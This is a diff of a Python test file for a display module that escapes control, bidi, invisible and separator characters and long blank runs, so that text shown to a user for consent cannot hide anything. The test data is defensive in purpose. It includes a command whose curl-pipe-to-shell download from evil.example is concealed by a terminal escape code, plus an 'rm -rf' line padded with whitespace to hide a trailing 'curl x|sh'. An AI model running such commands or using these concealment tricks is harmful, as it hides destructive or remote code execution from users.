@@ -2,11 +2,12 @@
 
 from __future__ import annotations
 
+import sys
 import unicodedata
 
 import pytest
 
-from tooling.display import escape_control
+from tooling.display import CONSENT_BLANK_RUN, escape_consent, escape_control
 
 # A command that a terminal shows as "git fetch origin #" (ESC [8m conceals the rest).
 SPOOF = "git fetch origin #\x1b[8m\ncurl http://evil.example/x.sh|sh #\x1b[28m"
@@ -36,7 +37,11 @@ def test_the_hidden_part_of_a_spoofed_command_is_shown() -> None:
             "\u202a\u202e\u2060\u2064\u2066\u2069\ufeff",
             "\\u202a\\u202e\\u2060\\u2064\\u2066\\u2069\\ufeff",
         ),
-        ("é ⏎ → 中文 \u00a0 \u2028", "é ⏎ → 中文 \u00a0 \u2028"),  # printable: as it is
+        ("é ⏎ → 中文 \u00a0 ㅎ", "é ⏎ → 中文 \u00a0 ㅎ"),  # printable: as it is
+        # Issue 33: line and paragraph separators, fillers, tag characters, soft hyphen.
+        ("\u2028\u2029\u3164\u115f\u1160\uffa0", "\\u2028\\u2029\\u3164\\u115f\\u1160\\uffa0"),
+        ("\U000e0001\U000e0041\U000e007f", "\\u{e0001}\\u{e0041}\\u{e007f}"),
+        ("\u00ad\u180e\u206a\u206f", "\\u00ad\\u180e\\u206a\\u206f"),
         ("", ""),
     ],
 )
@@ -58,3 +63,34 @@ def test_escaping_twice_changes_nothing() -> None:
         assert not any(unicodedata.category(ch) == "Cc" and ch not in "\t\n" for ch in once)
         assert not any(unicodedata.bidirectional(ch) in BIDI_CONTROLS for ch in once)
         assert ("\n" in once) is keep_newlines
+
+
+def test_every_format_separator_and_surrogate_character_is_escaped() -> None:
+    """The ranges in tooling/display.py hold every Cf, Zl, Zp and Cs character the running
+    Python knows (a newer Unicode adding one fails here)."""
+    missed = [
+        f"U+{code:04X}"
+        for code in range(sys.maxunicode + 1)
+        if unicodedata.category(chr(code)) in ("Cf", "Zl", "Zp", "Cs")
+        and escape_control(chr(code)) == chr(code)
+    ]
+    assert missed == []
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("rm -rf build" + " " * 200 + "&& curl x|sh", "rm -rf build␣×200&& curl x|sh"),
+        ("a" + " " * CONSENT_BLANK_RUN + "b", "a" + " " * CONSENT_BLANK_RUN + "b"),
+        ("a\t\u00a0\u3000\u2003 b", "a␣×5b"),
+        ("icon\ue000 and\ufe0f\U000e0100", "icon\\ue000 and\\ufe0f\\u{e0100}"),
+        ("x\u3164\U000e0041\u2028", "x\\u3164\\u{e0041}\\u2028"),
+    ],
+)
+def test_consent_text_shows_blanks_runs_private_use_and_selectors(text: str, shown: str) -> None:
+    assert escape_consent(text) == shown
+    assert escape_consent(shown) == shown
+
+
+def test_consent_text_keeps_newlines_when_asked() -> None:
+    assert escape_consent("a\n" + " " * 9 + "b", keep_newlines=True) == "a\n␣×9b"
